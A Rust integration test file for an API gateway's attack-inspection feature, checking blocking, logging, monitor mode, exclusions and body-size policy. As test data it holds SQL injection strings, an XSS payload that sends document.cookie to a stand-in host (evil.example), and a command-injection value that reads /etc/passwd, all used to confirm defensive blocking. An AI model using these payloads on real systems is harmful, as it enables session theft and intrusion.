//! Attack payload inspection in the request path.

use serde_json::Value;

use crate::support::*;

async fn gateway(inspect: &str) -> (Upstream, TestGateway) {
    let extra = if inspect.is_empty() {
        String::new()
    } else {
        format!("inspect = {inspect}")
    };
    echo_gateway("", &[("r", "/", &extra)]).await
}

/// POSTs a JSON body; the response, whatever its status.
async fn post_json(
    c: &reqwest::Client,
    url: String,
    body: impl Into<reqwest::Body>,
) -> reqwest::Response {
    c.post(url)
        .header("content-type", "application/json")
        .body(body)
        .send()
        .await
        .unwrap()
}

#[tokio::test]
async fn attacks_are_blocked_by_default_and_logged() {
    let (a, gw) = gateway("").await;
    let c = client();
    let response = c
        .get(format!(
            "{}/orders?id=1%27%20OR%201%3D1--&sort=asc",
            gw.http
        ))
        .send()
        .await
        .unwrap();
    let body = assert_refused(response, 403, "request_blocked").await;
    assert!(
        !body.contains("OR 1=1"),
        "no evidence in the response: {body}"
    );

    let xss = r#"{"author":"Eve","text":"nice <script>fetch('//evil.example/'+document.cookie)</script>"}"#;
    let response = post_json(&c, format!("{}/comments", gw.http), xss).await;
    assert_eq!(response.status(), 403);

    // Chunked bodies are inspected too.
    let chunks: Vec<Result<&'static str, std::io::Error>> = vec![
        Ok("{\"cmd\":\"ping -c1 127.0.0.1; "),
        Ok("cat /etc/passwd\"}"),
    ];
    let response = post_json(
        &c,
        format!("{}/jobs", gw.http),
        reqwest::Body::wrap_stream(futures_util::stream::iter(chunks)),
    )
    .await;
    assert_eq!(response.status(), 403);
    assert_eq!(a.served(), 0, "nothing reached the upstream");

    let log = gw.access_log(3).await;
    assert_eq!(log[0]["code"], "request_blocked");
    assert_eq!(log[0]["findings"][0]["class"], "sqli");
    assert_eq!(log[0]["findings"][0]["location"], "query.id");
    assert_eq!(log[1]["findings"][0]["class"], "xss");
    assert_eq!(log[2]["code"], "request_blocked");
    let metrics = metrics(&c, &gw).await;
    assert!(
        metrics.contains("portcullis_inspection_findings_total{class=\"sqli\",action=\"block\"}"),
        "{metrics}"
    );
}

#[tokio::test]
async fn legitimate_requests_pass_with_their_body_intact() {
    let (a, gw) = gateway("").await;
    let c = client();
    let note = "Leave it with Mrs O'Brien at 12 Drop Lane; select a plan & use the drop-down <3";
    let body = serde_json::json!({
        "customer": "Seán O'Brien",
        "note": note,
        "items": [{"sku": "A-1", "qty": 2}],
        "website": "https://www.example.org/shop?ref=mail",
    })
    .to_string();
    let response = post_json(
        &c,
        format!("{}/orders?sort=created_at&order=desc&page=2", gw.http),
        body.clone(),
    )
    .await;
    assert_eq!(response.status(), 200);
    let echo: Value = response.json().await.unwrap();
    assert_eq!(echo["body_len"], body.len());
    assert_eq!(a.served(), 1);
}

#[tokio::test]
async fn monitor_mode_logs_and_forwards() {
    let (a, gw) = gateway("{ mode = \"monitor\" }").await;
    let response = client()
        .get(format!("{}/x?q=%3Cscript%3Ealert(1)%3C/script%3E", gw.http))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 200);
    assert_eq!(a.served(), 1);
    let log = gw.access_log(1).await;
    assert_eq!(log[0]["decision"], "monitor");
    assert_eq!(log[0]["monitored"][0], "inspect");
    assert_eq!(log[0]["findings"][0]["class"], "xss");
}

#[tokio::test]
async fn exclusions_and_off_let_chosen_findings_through() {
    let (_a, gw) = gateway("{ exclude = [\"body.$.snippet:sqli\"] }").await;
    let c = client();
    let review = r#"{"snippet":"SELECT * FROM users WHERE id = '1' OR '1'='1' -- review this","title":"query review"}"#;
    let response = post_json(&c, format!("{}/reviews", gw.http), review).await;
    assert_eq!(response.status(), 200, "excluded location");
    // The same payload elsewhere is still blocked.
    let response = post_json(
        &c,
        format!("{}/reviews", gw.http),
        r#"{"title":"1' OR '1'='1' --"}"#,
    )
    .await;
    assert_eq!(response.status(), 403);

    let (_b, off) = gateway("{ mode = \"off\" }").await;
    let response = c
        .get(format!("{}/x?id=1%27%20OR%201%3D1--", off.http))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 200);
}

#[tokio::test]
async fn bodies_past_the_inspection_bound_follow_the_policy() {
    let (_a, reject) = gateway("{ max_body_bytes = 1024, on_large_body = \"reject\" }").await;
    let c = client();
    let big = format!("{{\"text\":\"{}\"}}", "a".repeat(2000));
    let response = post_json(&c, format!("{}/x", reject.http), big.clone()).await;
    assert_refused(response, 413, "body_too_large").await;

    let (_b, prefix) = gateway("{ max_body_bytes = 1024 }").await;
    let response = post_json(&c, format!("{}/x", prefix.http), big.clone()).await;
    assert_eq!(response.status(), 200);
    let echo: Value = response.json().await.unwrap();
    assert_eq!(
        echo["body_len"],
        big.len(),
        "the whole body is forwarded, prefix and rest"
    );
    // An attack in the inspected prefix is blocked.
    let attack = format!(
        "{{\"text\":\"<script>alert(document.domain)</script>{}\"}}",
        "a".repeat(2000)
    );
    let response = post_json(&c, format!("{}/x", prefix.http), attack).await;
    assert_eq!(response.status(), 403);
}

#[tokio::test]
async fn bad_inspection_config_is_refused_with_paths() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("gw.toml");
    std::fs::write(
        &path,
        "[[upstream]]\nname = \"u\"\ntargets = [\"127.0.0.1:1\"]\n[[route]]\nname = \"r\"\npath = \"/\"\nupstream = \"u\"\nauth = [\"none\"]\ninspect = { mode = \"loud\", sensitivity = \"paranoic\", exclude = [\"query.q:sqlx\"], on_large_body = \"drop\" }\n",
    )
    .unwrap();
    let errors = portcullis_config::Config::load(&path)
        .unwrap_err()
        .to_string();
    for want in [
        "route[0].inspect.mode: \"loud\" is not a mode",
        "route[0].inspect.sensitivity: \"paranoic\" is not a sensitivity",
        "route[0].inspect.exclude[0]: invalid exclusion `query.q:sqlx`",
        "route[0].inspect.on_large_body: \"drop\" is not a policy",
    ] {
        assert!(errors.contains(want), "missing {want:?} in {errors}");
    }
}
